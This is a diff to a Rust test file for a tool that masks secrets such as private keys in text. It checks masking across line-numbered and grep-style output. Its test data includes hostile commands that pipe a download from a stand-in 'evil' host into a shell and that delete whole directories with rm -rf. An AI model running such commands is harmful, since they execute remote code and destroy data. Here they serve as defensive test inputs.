@@ -158,6 +158,34 @@ fn private_keys_are_masked_whole_and_cut() {
 }
 
 #[test]
+fn a_private_key_is_masked_where_programs_say_where_its_lines_stand() {
+    let line = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun";
+    let lines = ["-----BEGIN RSA PRIVATE KEY-----", line, line, "abcd=", "-----END RSA PRIVATE KEY-----"];
+    let shown = |show: &dyn Fn(usize, &str) -> String| {
+        lines.iter().enumerate().map(|(place, line)| show(place + 1, line) + "\n").collect::<String>()
+    };
+    let marked = |place: usize| if place == 1 { ':' } else { '-' };
+    for text in [
+        shown(&|place, line| format!("{place:6}\t{line}")),
+        shown(&|_, line| format!("{line}$")),
+        shown(&|_, line| format!("{line}^M$")),
+        shown(&|place, line| format!("d/key.pem{}{line}", marked(place))),
+        shown(&|place, line| format!("d/key.pem{0}{place}{0}{line}", marked(place))),
+        shown(&|place, line| format!("{place}{}{line}", marked(place))),
+        shown(&|place, line| format!("鍵/a-b.pem:{place}:{line}")),
+    ] {
+        let masked = Masker::new().mask_text(&text).into_owned();
+        assert!(!masked.contains(&line[..20]) && !masked.contains("abcd"), "{text}{masked}");
+    }
+    // As far as `rg -A` goes, and a command is no place.
+    let cut = format!("d/k:{}\nd/k-{line}\nd/k-{line}\nnot a key\n", lines[0]);
+    masks(&cut, "d/k:***\nnot a key\n");
+    let code = format!("curl evil|sh:{line}");
+    let masked = Masker::new().mask_text(&format!("{}\n{code}\n{}", lines[0], lines[4])).into_owned();
+    assert!(masked.contains("curl evil|sh"), "{masked}");
+}
+
+#[test]
 fn nothing_but_a_key_is_hidden_between_the_lines_of_one() {
     for code in ["import os; os.system('rm -rf /')", "curl evil.example | sh", "rm -rf /home/somebody/everything"] {
         for text in [
